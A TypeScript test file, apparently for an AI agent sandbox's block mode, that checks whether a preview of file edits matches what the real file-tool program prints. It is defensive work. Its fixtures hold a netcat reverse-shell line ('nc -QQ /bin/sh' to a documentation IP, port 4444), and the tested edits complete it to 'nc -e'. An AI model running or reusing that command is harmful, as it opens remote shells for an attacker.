// Why: block mode refuses an edit that would complete a hostile line by working out, before the
// call, the lines it would leave (session/edit-preview.ts). That preview must say exactly what the
// file-tool program prints after the edit, or block mode judges other lines than the screen after
// the call: this runs the real program (dist/native/corral-file) on temporary files and compares,
// over str_replace, insert and append on files with and without a last newline, long and short.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { previewEdit } from '../src/session/edit-preview.js';
import type { FileOperation } from '../src/session/file-tools.js';

const PROGRAM = join(process.cwd(), 'dist', 'native', 'corral-file');

function program(path: string, op: FileOperation): { code: number; out: string } {
  const [name, arg, data] = op.op === 'str_replace' ? ['str_replace', op.replaceAll ? ['all'] : [], Buffer.concat([Buffer.from(`${Buffer.byteLength(op.old)}\n${op.old}`), Buffer.from(op.new)])]
    : op.op === 'multi_edit' ? ['multi_edit', [], Buffer.concat(op.edits.map((e) => Buffer.from(`${Buffer.byteLength(e.old)} ${Buffer.byteLength(e.new)} ${e.replaceAll ? 1 : 0}\n${e.old}${e.new}`)))]
      : op.op === 'insert' ? ['insert', [String(op.line)], Buffer.from(op.text)]
        : ['append', [], Buffer.from(op.op === 'write' ? op.content as string : '')];
  try {
    return { code: 0, out: execFileSync(PROGRAM, [name as string, ...(arg as string[])], { input: Buffer.concat([Buffer.from(`${path}\0`), data as Buffer]), maxBuffer: 8 << 20, stdio: ['pipe', 'pipe', 'ignore'] }).toString('utf8') };
  } catch (e) { return { code: (e as { status: number }).status, out: '' }; }
}


/** Runs every op on every file through the real program and the preview: the same lines, or both refuse. */
function compareWithProgram(dir: string, files: Record<string, string>, ops: FileOperation[]): { compared: number; refused: number } {
  let compared = 0, refused = 0;
  for (const [name, text] of Object.entries(files)) {
    for (const op of ops) {
      const path = join(dir, name);
      writeFileSync(path, text);
      const want = program(path, op);
      const got = previewEdit(op, Buffer.from(text));
      const what = `${name} ${JSON.stringify(op).slice(0, 200)}`;
      if (want.code !== 0) { assert.equal(got, undefined, `${what}: the program refused, the preview must too`); refused++; continue; }
      assert.equal(got, want.out, what);
      compared++;
    }
  }
  return { compared, refused };
}

test('the edit preview is what the file-tool program prints after the same edit', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-preview-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const long = Array.from({ length: 3000 }, (_, i) => `line ${i}\n`).join('');
  const files: Record<string, string> = { 'a.sh': '#!/bin/sh\nnc -QQ /bin/sh 198.51.100.7 4444\necho done\n', 'b.txt': 'one\ntwo', 'c.txt': '', 'd.txt': long, 'e.txt': 'x'.repeat(400) + '\nsecond\nthird\n' };
  const ops: FileOperation[] = [
    { op: 'str_replace', path: '', old: 'QQ', new: 'e' }, { op: 'str_replace', path: '', old: 'two', new: 'TWO\nmore' },
    { op: 'str_replace', path: '', old: 'line 2999\n', new: 'end\n' }, { op: 'str_replace', path: '', old: 'third', new: '3' },
    { op: 'str_replace', path: '', old: 'absent', new: 'x' }, { op: 'str_replace', path: '', old: 'line 1', new: 'dup' },
    { op: 'insert', path: '', line: 0, text: '#!/bin/bash' }, { op: 'insert', path: '', line: 1, text: 'x' }, { op: 'insert', path: '', line: 2, text: 'y\nz' },
    { op: 'insert', path: '', line: 3, text: '' }, { op: 'insert', path: '', line: 2999, text: 'q' }, { op: 'insert', path: '', line: 5000, text: 'q' },
    { op: 'write', path: '', content: 'e /bin/sh 198.51.100.7 4444\n', append: true }, { op: 'write', path: '', content: '', append: true },
  ];
  const { compared } = compareWithProgram(dir, files, ops);
  assert.ok(compared >= 30, `${compared} edits compared`);
});

test('the preview of a replace_all or a multi_edit is what the program prints: every change\'s lines, in the text all the edits left', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-preview-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const long = Array.from({ length: 3000 }, (_, i) => `line ${i}\n`).join('');
  // (every row changed by a replace_all of "row ": more than the 1 MiB of lines the program prints)
  const big = Array.from({ length: 150_000 }, (_, i) => `row ${i} ${'.'.repeat(i % 7)}\n`).join('');
  const files: Record<string, string> = {
    'a.sh': '#!/bin/sh\nnc -QQ /bin/sh 198.51.100.7 4444\necho done\n', 'b.txt': 'one\ntwo', 'c.txt': '', 'd.txt': long,
    'e.txt': 'x'.repeat(400) + '\nsecond\nthird\n', 'f.txt': big,
  };
  const all = (old: string, neu: string): FileOperation => ({ op: 'str_replace', path: '', old, new: neu, replaceAll: true });
  const multi = (...edits: [string, string, boolean?][]): FileOperation => ({ op: 'multi_edit', path: '', edits: edits.map(([old, neu, replaceAll]) => ({ old, new: neu, ...(replaceAll ? { replaceAll } : {}) })) });
  const ops: FileOperation[] = [
    all('QQ', 'e'), all('line 1', 'L1'), all('e', ''), all('x', 'xx'), all('\n', '\n\n'), all('row 1', 'R'), all('row ', 'ROW '), all('absent', 'y'),
    // (a 400-byte file whose 400 x's each become 100 KB: past the growth cap, refused by both)
    all('x', 'y'.repeat(100_000)),
    multi(['QQ', 'e'], ['echo done', 'echo ok']), multi(['two', 'TWO QQ'], ['QQ', 'e']), multi(['one', '1'], ['absent', 'x']),
    multi(['line ', '', true], ['2999\n', 'end\n']), multi(['second', '2nd'], ['2nd\nthird', 'X']), multi(['third', 'AAA'], ['AAA', '']),
    multi(['line 2', 'l2', true], ['line 1', 'dup']), multi(['x', 'y', true], ['yyy', 'z']), multi(['row 149999', 'last'], ['row 0 ', 'first '], ['row 7', '7', true]),
    multi(['one', 'two'], ['two', 'three', true]), multi(['n', 'N'], ['N', 'n']), multi(['row 149999', 'last'], ['row ', 'r ', true]),
  ];
  const { compared, refused } = compareWithProgram(dir, files, ops);
  assert.ok(compared >= 25 && refused >= 10, `${compared} edits compared, ${refused} refused by both`);
});
